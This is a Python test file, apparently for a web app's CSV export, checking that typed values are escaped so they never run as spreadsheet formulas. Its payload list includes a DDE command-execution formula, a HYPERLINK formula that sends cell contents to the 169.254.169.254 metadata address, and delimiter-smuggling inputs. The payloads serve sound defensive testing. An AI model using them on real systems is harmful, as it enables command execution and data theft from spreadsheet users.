"""T13: what somebody typed never becomes a formula in a spreadsheet of the office."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dument.web.tables import as_csv, inert

OPENING = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NASTY = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://169.254.169.254/?"&A1,"facture")',
    "+33 1 99 00 12 12",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    "\0=1+1",
    "＝1+1",
    'a";=1+1;"b',
    "a\n=1+1",
    "a;=1+1",
]
TEXT = st.text(st.one_of(st.sampled_from("=+-@\t\r\n;\"' \0＝＠"), st.characters(codec="utf-8")), max_size=40)


def read_back(*cells: str) -> list[str]:
    """Return the cells of the second line, as a spreadsheet splits them."""
    content = as_csv("registre.csv", ["a"] * len(cells), [list(cells)]).content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(content, newline=""), delimiter=";", strict=True))
    assert len(lines) == 2, "no cell makes a line of its own"
    return lines[1]


@pytest.mark.parametrize("typed", NASTY)
def test_a_formula_is_shown_as_it_was_typed(typed: str) -> None:
    [cell] = read_back(typed)
    assert not cell.lstrip(" \u00a0").startswith(OPENING)
    assert cell.removeprefix("'") == typed.replace("\0", "")


@given(st.lists(TEXT, min_size=1, max_size=4))
def test_whatever_is_typed_stays_in_its_cell_and_runs_nothing(typed: list[str]) -> None:
    cells = read_back(*typed)
    assert len(cells) == len(typed)
    for cell, told in zip(cells, typed, strict=True):
        assert not cell.lstrip().startswith(OPENING)
        assert cell in {told.replace("\0", ""), "'" + told.replace("\0", "")}


@pytest.mark.parametrize("plain", ["Sacha Durand", "1 200,00 €", "DU-4K7M-2QWZ", "l'étude", "a=b", ""])
def test_what_is_no_formula_is_left_alone(plain: str) -> None:
    assert inert(plain) == plain


def test_the_file_is_saved_not_shown() -> None:
    answer = as_csv("registre.csv", ["a"], [])
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
